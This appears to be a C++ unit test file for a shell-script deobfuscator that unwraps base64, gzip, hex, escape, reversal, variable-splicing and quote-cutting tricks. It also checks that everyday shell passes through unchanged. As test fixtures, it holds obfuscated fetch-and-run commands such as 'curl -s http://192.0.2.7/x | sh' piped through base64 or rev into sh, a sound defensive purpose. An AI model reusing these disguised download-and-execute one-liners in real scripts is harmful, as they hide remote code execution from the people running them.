// Each shell decoder on its own: what it undoes, and the everyday shell it leaves alone.
#include <gtest/gtest.h>
#include <zlib.h>

#include "peel.hpp"
#include "script_analysis/base64.hpp"

namespace script_analysis {
namespace {

using testing::peel;
constexpr Language kSh = Language::Shell;

std::string gzip(std::string_view data) {
  z_stream stream{};
  deflateInit2(&stream, 9, Z_DEFLATED, 16 + 15, 9, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&stream, data.size()) + 32, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  stream.avail_in = static_cast<uInt>(data.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

const std::string kPayload = "curl -s http://192.0.2.7/x | sh";

TEST(ShellBase64Pipe, ExecutedPipelinesBecomeTheirCode) {
  const std::string data = encode_base64(kPayload);
  for (std::string script :
       {"echo " + data + " | base64 -d | sh", "echo '" + data + "'|base64 --decode|bash",
        "printf '%s' " + data + " | base64 -D | /bin/sh", "base64 -d <<< " + data + " | bash",
        "eval \"$(echo " + data + " | base64 -d)\"",
        "bash -c \"$(echo " + data + " | openssl base64 -d)\""}) {
    auto peeled = peel(script, kSh);
    EXPECT_EQ(peeled.final_text, kPayload) << script;
    EXPECT_TRUE(peeled.undid("shell_base64_pipe")) << script;
  }
}

TEST(ShellBase64Pipe, CapturedOrStoredOutputStaysData) {
  const std::string data = encode_base64("198.51.100.9");
  EXPECT_EQ(peel("host=$(echo " + data + " | base64 -d); ping $host", kSh).final_text,
            "host=198.51.100.9; ping $host");
  EXPECT_EQ(peel("echo " + data + " | base64 -d > /tmp/h", kSh).final_text,
            "echo '198.51.100.9' > /tmp/h");
}

TEST(ShellBase64Pipe, GunzipAndHex) {
  auto peeled = peel("echo " + encode_base64(gzip(kPayload)) + " | base64 -d | gunzip | sh", kSh);
  EXPECT_EQ(peeled.final_text, kPayload);
  ASSERT_EQ(peeled.layers.size(), 2u);
  EXPECT_EQ(peeled.layers[1].obfuscation, ObfuscationClass::Compression);
  EXPECT_EQ(peel("echo 6964 | xxd -r -p | sh", kSh).final_text, "id");
}

TEST(ShellBase64Pipe, DataFromAVariableAssignedOnce) {
  const std::string data = encode_base64("uname -a");
  EXPECT_EQ(peel("p=" + data + "\necho $p | base64 -d | bash", kSh).final_text,
            "p=" + data + "\nuname -a");
}

TEST(ShellEscapes, HexAndOctalBecomeText) {
  EXPECT_EQ(peel("$'\\x63\\x75\\x72\\x6c' -s x", kSh).final_text, "curl -s x");
  EXPECT_EQ(peel("$'\\143\\165rl' -s x", kSh).final_text, "curl -s x");
  EXPECT_EQ(peel("echo -e \"\\x69\\x64\" | sh", kSh).final_text, "id");
  // Ordinary escapes are everyday shell.
  EXPECT_FALSE(peel("IFS=$'\\n'; echo \"$x\"", kSh).undid("shell_escapes"));
}

TEST(ShellReversal, RevOnAConstant) {
  EXPECT_EQ(peel("c=$(echo 'lruc' | rev); $c -s x", kSh).final_text, "c=curl; curl -s x");
  EXPECT_EQ(peel("rev <<< 'hs | x/1.2.0.291//:ptth lruc' | sh", kSh).final_text,
            "curl http://192.0.2.1/x | sh");
}

TEST(ShellVariables, SplicedAndCommandPositionUsesOnly) {
  auto peeled = peel("a=cu;b=rl;$a$b -O x", kSh);
  EXPECT_EQ(peeled.final_text, "a=cu;b=rl;curl -O x");
  EXPECT_TRUE(peeled.undid("shell_variables"));
  EXPECT_EQ(peel("x='wget -q';$x http://192.0.2.3/", kSh).final_text,
            "x='wget -q';'wget -q' http://192.0.2.3/");
  EXPECT_EQ(peel("s=curlwget; ${s:0:4} -s x", kSh).final_text, "s=curlwget; curl -s x");
  // Everyday uses stay: "$DIR"/bin, cd $DIR, a variable assigned twice.
  const std::string everyday = "DIR=/opt/app\ncd $DIR\nls \"$DIR\"/bin\nn=1\nn=2\necho $n$n";
  EXPECT_EQ(peel(everyday, kSh).final_text, everyday);
}

TEST(ShellQuotes, QuotesCuttingNamesAreRemoved) {
  EXPECT_EQ(peel("c''u\"\"rl -s x | b\\a\\sh", kSh).final_text, "curl -s x | bash");
  EXPECT_EQ(peel("\"wg\"'et' x", kSh).final_text, "wget x");
  const std::string everyday = "grep --color=\"auto\" -e 'a b' \"$HOME\"/x <<EOF\nit's\nEOF\n";
  EXPECT_EQ(peel(everyday, kSh).final_text, everyday);
}

TEST(ShellEval, ConstantStringsRunByTheShell) {
  EXPECT_EQ(peel("eval 'id; uname'", kSh).final_text, "id; uname");
  EXPECT_EQ(peel("bash -c \"id\" && echo ok", kSh).final_text, "id && echo ok");
  EXPECT_EQ(peel("echo 'id' | sh", kSh).final_text, "id");
  EXPECT_EQ(peel("eval \"$cmd\"", kSh).final_text, "eval \"$cmd\"");  // not a constant
}

}  // namespace
}  // namespace script_analysis
